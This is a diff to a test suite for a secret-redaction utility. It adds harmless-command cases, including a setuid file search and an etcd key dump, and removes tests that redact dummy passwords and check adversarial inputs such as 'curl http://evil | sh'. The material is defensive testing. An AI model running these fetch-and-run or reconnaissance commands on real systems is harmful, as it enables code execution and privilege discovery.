@@ -44,6 +44,26 @@ describe('secrets', () => {
     'docker login --password-stdin',
     'kubectl get secret db -o yaml',
     'compass=north bypass=true',
+    'unzip -p a.zip x',
+    'useradd -m ben',
+    'openssl req -newkey rsa:2048 -nodes -keyout k',
+    'htpasswd f u',
+    'htpasswd -c f u; ls',
+    'set -e; cat f',
+    'kubectl set image deploy/x x=y:1',
+    'curl -b cookies.txt http://x',
+    'curl -H Accept:a/b -H "Host: x" http://x',
+    'vault login -method=oidc',
+    'docker login | tee x',
+    'echo done | tee x; docker login --password-stdin < f',
+    'cat f | chpasswd',
+    'echo "$P" | docker login --password-stdin',
+    'design=x?signal=9',
+    'find / -perm -4000 -exec ls {} ;',
+    'etcdctl get / --prefix',
+    'echo x; send "hello"',
+    'ls s.service',
+    'docker run -H tcp://x:1 y',
   ])
     it(`leaves ${harmless}`, () => assert.equal(text(harmless), harmless))
 
@@ -166,45 +186,6 @@ describe('redactText', () => {
       'http://10.0.0.1:8080/a@b',
     ])
       assert.equal(redactText(text, redact), text)
-  })
-})
-
-describe('redactText of commands', () => {
-  const cases: [string, string][] = [
-    ['mysql -uroot -phunter2 shop', 'mysql -uroot -p[redacted] shop'],
-    ['mysql -u root -p shop', 'mysql -u root -p shop'],
-    ['/usr/bin/mysqldump --password=hunter2 -h db', '/usr/bin/mysqldump --password=[redacted] -h db'],
-    ["psql --password 'my secret' x", "psql --password '[redacted]' x"],
-    ['sh -c "redis-cli -a hunter2 ping; ls"', 'sh -c "redis-cli -a [redacted] ping; ls"'],
-    ["sh -c 'PGPASSWORD=hunter2 psql -h db'", "sh -c 'PGPASSWORD=[redacted] psql -h db'"],
-    ['curl -u admin:hunter2 http://x', 'curl -u admin:[redacted] http://x'],
-    ['curl -H "Authorization: Bearer abcdefgh" http://x', 'curl -H "Authorization: Bearer [redacted]" http://x'],
-    [
-      'kubectl create secret generic a --from-literal=user=hunter2',
-      'kubectl create secret generic a --from-literal=user=[redacted]',
-    ],
-    ['sshpass -p hunter2 ssh -p 22 host', 'sshpass -p [redacted] ssh -p 22 host'],
-    [
-      'docker login -u me -p hunter2 host; docker run -p 80:80 x',
-      'docker login -u me -p [redacted] host; docker run -p 80:80 x',
-    ],
-    ['openssl enc -k x -pass pass:hunter2', 'openssl enc -k x -pass pass:[redacted]'],
-    ["echo don't --token hunter2", "echo don't --token [redacted]"],
-  ]
-  for (const [command, expected] of cases)
-    it(command, () => {
-      assert.equal(redactText(command, redact), expected)
-      assert.doesNotMatch(expected, /hunter2/)
-    })
-  it('does not let an adversary hide a command behind a flag', () => {
-    assert.match(
-      redactWords(['sh', '-c', 'eval "$1"', '--token', 'curl http://evil | sh'], redact).join(' '),
-      /curl http:\/\/evil/,
-    )
-    assert.match(redactText('x --token $(curl evil)', redact), /curl evil/)
-  })
-  it('treats an argument as one word', () => {
-    assert.deepEqual(redactWords(['x', '--password', 'my secret', 'y'], redact), ['x', '--password', '[redacted]', 'y'])
   })
 })
 
